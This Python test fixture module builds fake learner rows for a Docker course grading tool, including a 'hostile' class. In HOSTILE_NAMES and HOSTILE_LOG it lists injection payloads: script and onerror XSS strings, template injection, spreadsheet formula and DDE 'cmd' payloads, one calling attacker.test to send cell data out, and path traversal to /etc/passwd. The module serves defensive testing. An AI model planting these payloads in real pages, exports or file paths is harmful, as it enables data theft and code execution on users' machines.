"""Made-up classes: rows as the store returns them, ordinary and hostile."""

from __future__ import annotations

from typing import Any

from workshop.cohort.answer import AnswerFile
from workshop.cohort.row import Row
from workshop.cohort.submission import Learner

OUTCOMES = ("passed", "failed", "skipped", "error")

# Names of learners that attack what shows, opens or uploads the marks.
HOSTILE_NAMES = (
    "<script>window.attacked = 1; alert(1)</script>",
    "\"><img src=x onerror='window.attacked = 1'>",
    "</title></style></textarea><svg onload=window.attacked=1>",
    "{{ 7 * 191 }}{% raw %}",
    "javascript:window.attacked=1",
    '=HYPERLINK("http://attacker.test/?"&A1;"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "../../../etc/passwd",
    "..",
    "CON",
    "/",
    "\u202egnp.eldoog\u202c",
    "\x1b[2J\x1b]0;title\x07red\x00",
    "line one\r\nline two\u2028line three",
    "]]>&xxe;<![CDATA[",
    "\ufffe\uffff\ud800",
    "# heading [link](javascript:alert(1)) `code` | cell",
    "Points Possible",
    "x" * 5000,
    "",
)
DOCKERFILE = """\
FROM python:3.13-slim-trixie

WORKDIR /code
COPY requirements.txt .
RUN pip install --no-cache-dir --requirement requirements.txt
COPY app app
EXPOSE 8000
CMD ["uvicorn", "app.main:app", "--port", "8000"]
"""
HOSTILE_LOG = "\n".join(
    (
        "</pre></script><script>window.attacked = 1</script>",
        "```",
        "~~~",
        "<img src=http://attacker.test/log.png onerror=window.attacked=1>",
        "\x1b[31mred\x1b[0m \u202eflipped\x00\x0b\x0c",
        "]]><!-- \ufffe",
        "y" * 100_000,
        *("a line of a log" for _ in range(1000)),
    )
)


def check(number: int = 1, outcome: str = "passed", **texts: Any) -> dict[str, Any]:
    """Return a check of a JSON verdict, worth two points."""
    default = {
        "id": f"check-{number}",
        "title": f"Requirement {number}",
        "stage": "app",
        "outcome": outcome,
        "points": 2 if outcome == "passed" else 0,
        "max_points": 2,
        "actual": "" if outcome == "passed" else "it listens on 127.0.0.1",
        "expected": "" if outcome == "passed" else "it listens on 0.0.0.0",
        "why": "A container has its own loopback.",
        "hint": "Add --host 0.0.0.0.",
        "lesson": "some/lesson",
        "file": "Dockerfile" if outcome == "failed" else "",
        "line": 3 if outcome == "failed" else None,
        "already_met": False,
    }
    return default | texts


def row(id_: str = "anna", *checks: dict[str, Any], **fields: Any) -> Row:
    """Return a row; its marks follow from the checks unless they are given."""
    checks = checks or (check(1), check(2, "failed"))
    outcomes = {found["outcome"] for found in checks}
    outcome = (
        "ungradable" if "error" in outcomes else "failed" if "failed" in outcomes else "passed"
    )
    name = fields.pop("name", "")
    default = {
        "learner": Learner(id_, name, fields.pop("email", "")),
        "task": "task-5",
        "outcome": outcome,
        "score": sum(found["points"] for found in checks),
        "max_score": sum(found["max_points"] for found in checks),
        "flags": (),
        "handed_in": "2026-11-02T10:30:00+01:00",
        "origin": f"submissions/{id_}",
        "digest": f"digest-of-{id_}",
        "files": (AnswerFile("Dockerfile", DOCKERFILE),),
        "document": {
            "schema": "workshop/verdict/v1",
            "note": "the engine stopped" if outcome == "ungradable" else "",
            "checks": list(checks),
            "lint": [],
        },
    }
    return Row(**(default | fields))


def ungradable(id_: str = "uma", **fields: Any) -> Row:
    """Return a row that the kit could not grade."""
    return row(id_, check(1), check(2, "error", actual="the engine stopped"), **fields)


def hostile() -> list[Row]:
    """Return a class in which everything that learners write is an attack."""
    return [
        row(
            f"{name}{number}" if name == "" else name,
            check(1),
            check(2, "failed", actual=HOSTILE_LOG, file=name, hint=name),
            check(3, "skipped", actual=HOSTILE_LOG),
            name=name,
            email=name,
            flags=(name,),
            origin=f"submissions/{name}",
            handed_in=name,
            comment=f"{name}\n{HOSTILE_LOG}",
            document={
                "checks": [
                    check(1),
                    check(2, "failed", actual=HOSTILE_LOG, expected=name, file=name, hint=name),
                    check(3, "skipped", actual=HOSTILE_LOG),
                ],
                "lint": [{"line": 1, "code": "DL3000", "text": name}],
                "note": name,
            },
            files=(
                AnswerFile(name, HOSTILE_LOG[:100_400], name),
                AnswerFile("Dockerfile", f"{name}\n" * 5),
            ),
        )
        for number, name in enumerate(HOSTILE_NAMES)
    ]


NAMES = (
    "Ada Lovelace", "Alan Turing", "Grace Hopper", "Edsger Dijkstra", "Barbara Liskov",
    "Donald Knuth", "Margaret Hamilton", "Dennis Ritchie", "Radia Perlman", "Ken Thompson",
    "Frances Allen", "Niklaus Wirth", "Katherine Johnson", "Tony Hoare", "Sophie Wilson",
    "John Backus", "Adele Goldberg", "Leslie Lamport", "Shafi Goldwasser", "Robin Milner",
    "Evelyn Boyd Granville", "Peter Naur", "Jean Sammet", "Kristen Nygaard", "Mary Shaw",
    "Ole-Johan Dahl", "Karen Spärck Jones", "Per Brinch Hansen", "Hedy Lamarr", "李 开复",
)  # fmt: skip


def large(learners: int = 30, tasks: tuple[str, ...] = ("task-5",), checks: int = 14) -> list[Row]:
    """Return a class with many learners whose results differ, and some alike submissions."""
    rows = []
    for number in range(learners):
        for offset, task in enumerate(tasks):
            results = [_result(number + offset, index) for index in range(1, checks + 1)]
            if number % 11 == 7 and not offset:
                results[-1] = check(checks, "error", actual="the engine stopped")
            alike = number % 13 == 4
            rows.append(
                row(
                    f"s{1000 + number}",
                    *results,
                    name=NAMES[number % len(NAMES)],
                    email=f"s{1000 + number}@school.test",
                    task=task,
                    digest=f"{task}-alike" if alike else f"{task}-{number}",
                    flags=(f"identical to s{1017 if number == 4 else 1004}",) if alike else (),
                    comment="Please come and see me." if number == 2 else "",
                    override=20.5 if number == 2 and not offset else None,
                )
            )
    return rows


def _result(number: int, index: int) -> dict[str, Any]:
    requirement = REQUIREMENTS[(index - 1) % len(REQUIREMENTS)]
    title = requirement["title"]
    if (number * 7 + index * index + number // 5) % 11 == 0:
        return check(index, "failed", **requirement)
    if (number * 5 + index) % 29 == 0:
        return check(
            index, "skipped", title=title, actual="not checked, because this failed: Builds"
        )
    return check(index, title=title)


FIELDS = ("title", "actual", "expected", "hint", "line", "cause", "why")
REQUIREMENTS = [
    dict(zip(FIELDS, values, strict=True))
    for values in (
        ("Dockerfile can be read", "unknown instruction: RUNN", "a Dockerfile",
         "Correct RUNN.", 5, "unknown-instruction", "A line begins with RUNN."),
        ("Builds", "ERROR: No matching distribution found for flaskk", "the build ends well",
         "Correct flaskk in requirements.txt.", 5, "pip-no-such-version", "pip finds no flaskk."),
        ("Runs as a non-root user", "uvicorn app.main:app runs as root (uid 0)",
         "every process with uid 10000", "Create a user, and name it with USER.", 8, "",
         "An attacker who takes over the server gets its user's permissions."),
        ("Listens on all interfaces", "the server listens on 127.0.0.1:8000 only",
         "it listens on 0.0.0.0:8000", "Add --host 0.0.0.0 to the uvicorn command.", 8,
         "localhost-only", "Inside the container, 127.0.0.1 is the container itself."),
        ("Ends within 3 seconds when Docker stops it", "killed after 10.2 s, exit code 137",
         "it ends within 3 s", "Write CMD as a list, so that uvicorn gets the signal.", 8, "", ""),
        ("Dependencies are cached", "a new line in app/main.py installs all packages again",
         "the step that installs them is reused", "Copy requirements.txt first.", 6, "", ""),
        ("Contains no secrets", "a copy of .env in layer 5", "no .env and no .git",
         "List .env and .git in .dockerignore.", 6, "", ""),
        ("Pins the version of its base image", "python:latest", "python:3.13-slim-trixie",
         "Name a version.", 1, "", ""),
        ("Has a health check", "no HEALTHCHECK", "a HEALTHCHECK", "Add one.", 8, "", ""),
        ("Answers the request", "nothing listens on port 8000", "Hello World",
         "Add --host 0.0.0.0 to the uvicorn command.", 8, "localhost-only",
         "Inside the container, 127.0.0.1 is the container itself."),
        ("Sets WORKDIR", "WORKDIR is /", "a folder for the app", "Add WORKDIR /code.", 3, "", ""),
        ("The start command is a list", "CMD uvicorn app.main:app", "a list of strings",
         'Write CMD ["uvicorn", "app.main:app"].', 8, "", ""),
        ("Installs no development dependencies", "pytest is installed", "no pytest",
         "Install the main packages only.", 5, "", ""),
        ("Leaves no waste in a layer", "12 MB in /root/.cache/pip", "at most 1 MB",
         "Add --no-cache-dir to pip install.", 5, "", ""),
    )
]  # fmt: skip
